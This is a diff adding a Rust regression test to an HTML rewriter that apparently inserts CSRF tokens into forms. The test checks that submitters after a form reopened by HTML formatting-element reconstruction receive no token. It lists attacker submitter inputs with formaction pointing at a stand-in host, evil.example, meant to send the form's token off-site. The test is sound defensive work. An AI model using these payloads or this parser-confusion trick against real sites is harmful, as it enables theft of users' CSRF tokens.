@@ -624,6 +624,69 @@ fn nothing_is_lost_where_lol_html_gives_up_before_a_misread_tag() {
     assert!(out == page.as_bytes(), "the page passes through whole");
 }
 
+/// A formatting element left in the list of active ones (`<p><b>x<form>`: the `<form>` tag
+/// closes the `<p>`, and the `<b>` with it) is made again inside the form by the first control
+/// or text in it, and stays open after `</form>`: a submitter after the form still belongs to
+/// it. lol_html cannot follow that list; it saw the form close cleanly, and the rewriter
+/// released it, so a cross-site submitter after it sent the form's token away (found while
+/// checking the text-only fuzz family of `rewrite_html-formatting-reconstructed-in-form.bin`,
+/// which assumed no leak). Where a page held whole names `formaction` or `formmethod`, every
+/// form with the token after a formatting element is held to the end now (a stream is not
+/// covered: SECURITY.md, "Open"). Swept on the page held whole: formatting elements, what
+/// closes them, forms, submitters after, both link modes (leaks and link targets; the text
+/// change the token input causes there is the open finding).
+#[test]
+fn a_submitter_after_a_form_a_formatting_element_reopens_in_gets_no_token() {
+    let formatting = [
+        "<b>",
+        "<i>",
+        "<font color=red>",
+        "<a href=/a>",
+        "<nobr>",
+        "<strong><em>",
+    ];
+    let closers = [
+        ("<p>", ""),
+        ("<div>", "</div>"),
+        ("<p>", "</p>"),
+        ("<ul><li>", "</ul>"),
+        ("<table><tr><td>", "</td></tr></table>"),
+    ];
+    let forms = [
+        "<form method=post action=/p></form>",
+        "<form method=post action=/p>Name: <input name=n></form>",
+        "<form method=get action=/g></form>",
+        "<form id=f method=post></form>",
+    ];
+    let after = [
+        "<button formaction=//evil.example/b>go</button>",
+        "<input type=submit formaction=https://evil.example/i>",
+        "<button formmethod=get>go</button>",
+        "<input type=image formaction=//evil.example/m src=/i.png>",
+        "<div><button formaction=//evil.example/d>go</button></div>",
+    ];
+    let mut pages = 0;
+    for element in formatting {
+        for (open, close) in closers {
+            for form in forms {
+                for tail in after {
+                    let page = format!("{open}{element}x{close}{form}{tail}");
+                    for use_get in [false, true] {
+                        if let Some(verdict) = properties::whole_verdict(page.as_bytes(), use_get) {
+                            assert!(
+                                verdict.leaks.is_empty() && verdict.target_changed.is_none(),
+                                "use_get {use_get}: {page}: {verdict:#?}"
+                            );
+                        }
+                        pages += 1;
+                    }
+                }
+            }
+        }
+    }
+    assert_eq!(pages, 1200);
+}
+
 /// An HTML element left open inside an integration point (`<svg><title><form>`): a browser
 /// reads `</title>` there by the "in body" rules, which stop at the special SVG `<title>` and
 /// ignore the tag, so the page goes on inside it, and a later `<title>` is an HTML one whose
